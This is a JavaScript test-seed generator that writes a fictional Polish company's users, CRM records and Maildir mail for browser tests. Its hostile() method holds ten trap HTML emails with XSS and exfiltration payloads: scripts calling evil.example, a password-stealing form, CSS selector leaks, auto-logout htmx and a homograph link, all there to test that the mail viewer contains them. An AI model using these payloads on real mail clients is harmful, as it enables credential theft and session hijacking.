// The made-up company of the browser tests: forty users, their records as CSV files for
// `standin import`, and their mail as Maildir files for a Dovecot. Nothing is random: it differs
// from the last time by the clock alone. Small for every run; `full` is the seed on which the
// bars for speed are set (5,000 accounts, 20,000 contacts, 100,000 messages).

import { mkdirSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";

export const OWN = "wodnik.test";
export const SIZES = {
  small: { accounts: 60, contacts: 4, mails: 12, more: 0 },
  full: { accounts: 5_000, contacts: 4, mails: 20, more: 27 },
};

const FIRST = ["Łucja", "Lucjan", "Marek", "Ewa", "Tomasz", "Żaneta", "Ćwiek", "Bożena", "Jerzy", "Olga", "Śliwa", "Paweł"];
const LAST = ["Adamska", "Zawada", "Żak", "Łoś", "Lis", "Mazur", "Ślązak", "Nowicki", "Ząbek", "Kos", "Ćma", "Wilk"];
const WHAT = ["pomp", "filtrów", "zaworów", "uszczelek", "liczników", "wymienników", "sterowników", "silników"];

/** Who appears by name in the tests; the rest of the forty are colleagues without a part of their own. */
const CAST = [
  { login: "anna", name: "Anna Nowak", manager: "maria", team: "Warszawa" },
  { login: "piotr", name: "Piotr Zieliński", manager: "maria", team: "Warszawa", phone: "+48 22 555 01 17" },
  { login: "kamil", name: "Kamil Wójcik", manager: "zofia", team: "Gdańsk" },
  { login: "ola", name: "Ola Kwiat", manager: "zofia", team: "Gdańsk" },
  { login: "anna.k", name: "Anna Nowicka", manager: "zofia", team: "Gdańsk" },
  { login: "robert", name: "Robert Bąk", manager: "zofia", team: "Gdańsk" },
  { login: "nowy", name: "Nowy Pracownik", manager: "zofia", team: "Gdańsk" },
  { login: "maria", name: "Maria Lis", role: "staff", manager: "beata", team: "Warszawa", fallback: "yes" },
  { login: "zofia", name: "Zofia Bąk", role: "staff", team: "Gdańsk", fallback: "yes" },
  { login: "adam", name: "Adam Wrona", role: "admin" },
  // An admin who reads what her people own, as their line manager; Adam reads nothing.
  { login: "beata", name: "Beata Król", role: "admin" },
];

/** What a user signs in with. */
export const password = (login) => `e2e-${login}-2026`;

/**
 * Writes the CSV files to `csv` and the mail below `mail`, where a Dovecot keeps USER/maildir.
 * `now` is in seconds. Returns who has a mailbox and how much there is of everything.
 */
export function write({ csv, mail, now, size, language = "en" }) {
  const world = new World({ mail, now, size });
  world.people(language);
  world.named();
  world.threads();
  world.hostile();
  world.crowd();
  for (const [name, rows] of Object.entries(world.tables)) {
    writeFileSync(join(csv, `${name}.csv`), rows.map((row) => row.map(cell).join(";")).join("\n") + "\n");
  }
  return {
    mailboxes: world.mailboxes,
    counts: { users: world.tables.users.length - 1, accounts: world.tables.accounts.length - 1, contacts: world.tables.contacts.length - 1, mails: world.count },
    waitingForOla: world.waiting,
  };
}

const cell = (value) => (/[;"\n]/.test(String(value ?? "")) ? `"${String(value).replaceAll('"', '""')}"` : String(value ?? ""));
const header = (text) => (/^[ -~]*$/.test(text) ? text : `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`);
const person = ({ name, address }) => `${header(name)} <${address}>`;

class World {
  constructor({ mail, now, size }) {
    Object.assign(this, { mail, now, size, count: 0, folders: new Set(), waiting: [] });
    this.tables = {
      users: [["login", "name", "role", "emails", "manager", "team", "team_fallback", "zone", "language", "phone", "password"]],
      accounts: [["external_id", "name", "owner", "domains", "class", "city", "phone"]],
      contacts: [["external_id", "name", "owner", "account", "emails", "phone", "city"]],
      opportunities: [["external_id", "name", "owner", "account", "number", "confidential"]],
      leads: [["external_id", "name", "owner", "emails", "city", "phone"]],
    };
  }

  people(language) {
    this.users = new Map();
    const add = (user) => {
      this.users.set(user.login, { name: user.name, address: `${user.login}@${OWN}` });
      this.tables.users.push([user.login, user.name, user.role ?? "account-manager", `${user.login}@${OWN}`, user.manager, user.team,
        user.fallback, "Europe/Warsaw", language, user.phone, password(user.login)]);
    };
    CAST.forEach(add);
    for (let n = CAST.length; n < 40; n++) {
      const name = `${FIRST[n % FIRST.length]} ${LAST[(n * 5 + 1) % LAST.length]}`;
      add({ login: `user${n}`, name, manager: n % 2 ? "maria" : "zofia", team: n % 2 ? "Warszawa" : "Gdańsk" });
    }
    const more = [...this.users.keys()].filter((login) => login.startsWith("user"));
    this.readers = ["anna", "piotr", "kamil", ...more.slice(0, this.size.more)];
    this.mailboxes = [...this.readers, "ola", "robert", "nowy"];
  }

  account(id, name, owner, { domain = `${id}.test`, class: rank = "B", city = "Warszawa", phone = "", contacts = [], opportunities = [] } = {}) {
    this.tables.accounts.push([id, name, owner, domain, rank, city, phone]);
    contacts.forEach(([local, full, number], n) =>
      this.tables.contacts.push([`${id}-${n}`, full, owner, id, `${local}@${domain}`, number ?? "", city]));
    opportunities.forEach(([number, title, confidential]) =>
      this.tables.opportunities.push([`${id}-${number}`, title, owner, id, number, confidential ? "yes" : ""]));
  }

  /** The records that tests name. */
  named() {
    const anna = "anna";
    this.account("acme", "Acme", anna, { class: "A", city: "Poznań", phone: "+48 61 555 20 11",
      contacts: [["jan.kowalski", "Jan Kowalski", "+48 61 555 20 12"]], opportunities: [["OP-1042", "Acme pumps"]] });
    this.account("zolc", "Żółć i Synowie", anna, { city: "Łódź", phone: "+48 22 123 45 60",
      contacts: [["zofia", "Zofia Żółć", "+48 22 123 45 67"]], opportunities: [["OP-1043", "Filtry do żółci"]] });
    this.account("browar", "Browar Pod Lipą", anna, { city: "Żywiec",
      contacts: [["e.lipinska", "Ewa Lipińska", "+48 33 555 14 02"]],
      opportunities: [["OP-1051", "Warzelnia, etap pierwszy"], ["OP-1052", "Warzelnia, etap drugi"]] });
    for (const [id, name] of [["mewa", "Mewa"], ["labedz", "Łabędź"], ["lampart", "Lampart"], ["losos", "Łosoś"], ["latarnia", "Latarnia"]]) {
      this.account(id, name, anna, { contacts: [["biuro", `Biuro ${name}`]] });
    }
    this.account("tajne", "Tajne Laboratorium", anna, { contacts: [["szef", "Szymon Cichy"]], opportunities: [["OP-1099", "Projekt T", true]] });
    this.account("zbedna", "Zbędna Spółka", anna);
    this.account("port", "Port Mewa", "kamil", { class: "A", city: "Hel", contacts: [["bosman", "Bolesław Kotwica"]], opportunities: [["OP-2001", "Pompy zęzowe"]] });
    this.account("robertowa", "Papiernia Bóbr", "robert", { contacts: [["zakupy", "Karol Papier"]], opportunities: [["OP-3001", "Wymiana pomp"]] });
    this.tables.leads.push(["lead-1", "Fabryka Mebli Dąbek", anna, "dabek@meble-dabek.test", "Kalisz", "+48 62 555 18 18"]);
    this.tables.leads.push(["lead-2", "Riverside Allotments", "piotr", "secretary@riverside.test", "York", "+44 1904 555 010"]);

    const jan = { name: "Jan Kowalski", address: "jan.kowalski@acme.test" };
    const offer = this.send({ from: "anna", to: [jan], subject: "Acme: quotation", days: 3, text: "Good morning,\n\nhere is the quotation we spoke of, with pumps of the PX-40 series." });
    this.send({ from: jan, to: ["anna"], subject: "Re: Acme: quotation", days: 0.3, answers: [offer], text: "Hello Anna,\n\ncould you bring the delivery forward by a week? We need an answer today.\n\n-- \nJan Kowalski\nAcme, Poznań\n+48 61 555 20 12" });
    const zofia = { name: "Zofia Żółć", address: "zofia@zolc.test" };
    this.send({ from: zofia, to: ["anna"], subject: "Zażółć gęślą jaźń", days: 2, text: "Dzień dobry,\n\nzgodnie z rozmową proszę o wycenę dwóch filtrów do żółci. Czy termin w grudniu jest dla Państwa dogodny?\n\nPozdrawiam", file: "wycena.csv" });
    const ewa = { name: "Ewa Lipińska", address: "e.lipinska@browar.test" };
    for (let n = 1; n <= 3; n++) {
      this.send({ from: ewa, to: ["anna"], subject: `Warzelnia: pytanie ${n}`, days: 6 - n, text: `Dzień dobry,\n\nmamy pytanie numer ${n} w sprawie dostawy. Kiedy można się spodziewać odpowiedzi?` });
    }
    this.send({ from: { name: "Bolesław Kotwica", address: "bosman@port.test" }, to: ["kamil"], subject: "Poufne: pompy zęzowe", days: 1, text: "Dzień dobry,\n\nczekam na ofertę na pompy zęzowe." });
    this.send({ from: { name: "Szymon Cichy", address: "szef@tajne.test" }, to: ["anna"], subject: "Projekt T", days: 1, text: "Dzień dobry,\n\ntylko dla Pani: kiedy zaczynamy?" });
    this.send({ from: { name: "Fabryka Mebli Dąbek", address: "dabek@meble-dabek.test" }, to: ["anna"], subject: "Zapytanie", days: 2.5, text: "Dzień dobry,\n\nczy robią Państwo pompy do lakieru?" });
  }

  /** Twelve conversations that say what a wait is (U5): each with an account of its own, all Ola's. */
  threads() {
    const threads = [
      ["never answered", [["client", 10]], 10],
      ["answered", [["client", 9], ["ours", 8]], null],
      ["answered, then asked again", [["client", 8], ["ours", 7], ["client", 6]], 6],
      ["asked twice", [["client", 7.5], ["client", 5]], 7.5],
      ["answered by a machine of ours", [["client", 4], ["our machine", 3.9]], 4],
      ["answered by a colleague", [["client", 3.5], ["colleague", 3.2]], null],
      ["only passed on inside", [["client", 3], ["inside", 2.8]], 3],
      ["only a machine of theirs", [["their machine", 2.7]], null],
      ["we began, they are silent", [["ours", 2.6]], null],
      ["asked, then their machine wrote", [["client", 2], ["their machine", 1.9]], 2],
      ["answered in a new conversation", [["client", 1.5], ["ours anew", 1.4]], null],
      ["to two of us", [["client to both", 0.9]], 0.9],
    ];
    threads.forEach(([title, turns, waits], n) => {
      const id = `thread${n + 1}`;
      const client = { name: `Klient ${n + 1}`, address: `klient@${id}.test` };
      this.account(id, `Thread ${n + 1}`, "ola", { contacts: [["klient", client.name]], opportunities: [[`OT-${5001 + n}`, `Thread ${n + 1}: ${title}`]] });
      const ids = [];
      const subject = `Thread ${n + 1}, ${title}`;
      for (const [who, days] of turns) {
        const answers = who === "ours anew" ? [] : [...ids];
        const common = { subject: answers.length ? `Re: ${subject}` : who === "ours anew" ? `Another matter of thread ${n + 1}` : subject, days, answers, text: "Hello,\n\nwhen can we expect an answer about this?" };
        const machine = { extra: ["Auto-Submitted: auto-replied"], text: "I am out of the office and will read your mail when I am back." };
        const mail = {
          client: { from: client, to: ["ola"] },
          "client to both": { from: client, to: ["ola", "piotr"] },
          ours: { from: "ola", to: [client] },
          "ours anew": { from: "ola", to: [client] },
          "our machine": { from: "ola", to: [client], ...machine },
          colleague: { from: "piotr", to: [client] },
          inside: { from: "ola", to: ["piotr"] },
          "their machine": { from: client, to: ["ola"], ...machine },
        }[who];
        ids.push(this.send({ ...common, ...mail }));
      }
      if (waits !== null) this.waiting.push({ subject, days: waits });
    });
    this.waiting.sort((a, b) => b.days - a.days);
  }

  /** Mail that tries to get out of its frame (U20), from one contact of Kamil's. */
  hostile() {
    const from = { name: "Hakon Zły", address: "hakon@zly.test" };
    this.account("zly", "Zły Adres", "kamil", { contacts: [["hakon", from.name]], opportunities: [["OP-2066", "Pułapki"]] });
    const traps = {
      script: '<script>parent.document.title="broken";fetch("https://evil.example/x")</script><img src=x onerror="alert(1)"><p>script</p>',
      form: '<form action="https://evil.example/steal" method="post"><input name="password"><button>OK</button></form><p>form</p>',
      svg: '<svg onload="alert(1)"><script>alert(2)</script><use href="https://evil.example/a.svg#x"/></svg><p>svg</p>',
      css: '<style>@import "https://evil.example/a.css"; body{background:url(https://evil.example/b.png)} input[value^=a]{background:url(https://evil.example/c)}</style><p style="background:url(https://evil.example/d.png);position:fixed;inset:0">css</p>',
      htmx: '<div hx-get="/logout" hx-trigger="load" data-hx-post="/logout" hx-on:load="alert(1)">htmx</div>',
      refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><p>refresh</p>',
      pixel: '<img src="https://evil.example/pixel.gif" width="1" height="1"><video src="https://evil.example/v" autoplay></video><link rel="stylesheet" href="https://evil.example/s.css"><p>pixel</p>',
      homograph: '<p><a href="https://xn--80ak6aa92e.com/">https://apple.com/</a> <a href="javascript:alert(1)">javascript</a> <a href="https://evil.example/" target="_top">link</a></p>',
      frame: '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><p>frame</p>',
      long: `<table>${"<tr><td><b>x</b></td></tr>".repeat(20_000)}</table>`,
    };
    this.traps = Object.keys(traps);
    Object.entries(traps).forEach(([name, html], n) =>
      this.send({ from, to: ["kamil"], subject: `Trap: ${name}`, days: 5 + n / 10, html: `<html><body>${html}</body></html>` }));
  }

  /** Everybody else's records and mail. */
  crowd() {
    const { accounts, contacts, mails } = this.size;
    const named = this.tables.accounts.length - 1;
    for (let n = 0; n < accounts - named; n++) {
      const owner = this.readers[n % this.readers.length];
      const id = `firma${n}`;
      const people = Array.from({ length: contacts }, (_, k) => {
        const name = `${FIRST[(n + k * 7) % FIRST.length]} ${LAST[(n * 3 + k) % LAST.length]}`;
        return [`osoba${k}`, name, `+48 ${String(500_000_000 + n * 10 + k).replace(/(...)(...)(...)/, "$1 $2 $3")}`];
      });
      this.account(id, `Firma ${LAST[n % LAST.length]} ${n}`, owner, { class: "ABCD"[n % 4], city: ["Gdynia", "Kraków", "Łomża", "Świdnik"][n % 4], contacts: people, opportunities: [[`OP-${10_000 + n}`, `Dostawa ${WHAT[n % WHAT.length]} ${n}`]] });
      let ids = [];
      for (let m = 0; m < mails; m++) {
        const [local, name] = people[Math.floor(m / 5) % people.length];
        const client = { name, address: `${local}@${id}.test` };
        if (m % 5 === 0) ids = [];
        const days = 30 - ((n * 7 + m * 3) % 270) / 10 + (5 - (m % 5)) / 50;
        const ours = m % 2 === 1;
        const text = `Dzień dobry,\n\nw sprawie dostawy ${WHAT[(n + m) % WHAT.length]} numer ${n}/${m}: proszę o termin i cenę.\n\n-- \n${ours ? owner : name}`;
        ids.push(this.send({ from: ours ? owner : client, to: [ours ? client : owner], subject: `${ids.length ? "Re: " : ""}Dostawa ${WHAT[n % WHAT.length]}, sprawa ${n}/${Math.floor(m / 5)}`, days, answers: [...ids], text }));
      }
    }
  }

  /** Puts one mail where each of our people who wrote or got it keeps it. Returns its Message-ID. */
  send({ from, to, subject, days, answers = [], text, html, extra = [], file }) {
    const at = Math.round(this.now - days * 86_400);
    const ours = (who) => (typeof who === "string" ? who : null);
    const whom = (who) => (ours(who) ? this.users.get(who) : who);
    const sender = whom(from);
    const id = `<mail-${++this.count}@${sender.address.split("@")[1]}>`;
    const head = [`Return-Path: <${sender.address}>`, `From: ${person(sender)}`, `To: ${to.map((who) => person(whom(who))).join(", ")}`, `Subject: ${header(subject)}`,
      `Date: ${new Date(at * 1000).toUTCString().replace("GMT", "+0000")}`, `Message-ID: ${id}`, ...extra];
    if (answers.length) head.push(`In-Reply-To: ${answers.at(-1)}`, `References: ${answers.join(" ")}`);
    const whole = compose(head, { text, html, file });
    if (ours(from)) this.put(from, ".Sent", at, whole);
    for (const who of to) if (ours(who)) this.put(who, "", at, whole);
    return id;
  }

  put(login, folder, at, whole) {
    if (!this.mailboxes.includes(login)) return;
    const path = join(this.mail, `${login}@${OWN}`, "maildir", folder);
    if (!this.folders.has(path)) {
      for (const part of ["cur", "new", "tmp"]) mkdirSync(join(path, part), { recursive: true });
      this.folders.add(path);
    }
    const name = join(path, "cur", `${at}.M${this.count}.e2e:2,S`);
    writeFileSync(name, whole);
    // Dovecot takes the file's time as that of arrival.
    utimesSync(name, at, at);
  }
}

/** A whole mail from its head: plain text, HTML, and one attached file where there is one. */
export function compose(head, { text, html, file }) {
  const body = html
    ? ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "", Buffer.from(html).toString("base64").replace(/.{76}/g, "$&\n")]
    : ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", text];
  if (!file) return [...head, "MIME-Version: 1.0", ...body, ""].join("\n");
  return [...head, "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="=_part"', "", "--=_part", ...body, "", "--=_part",
    `Content-Type: text/csv; name="${file}"`, `Content-Disposition: attachment; filename="${file}"`, "", "nazwa;cena", "filtr;120", "--=_part--", ""].join("\n");
}
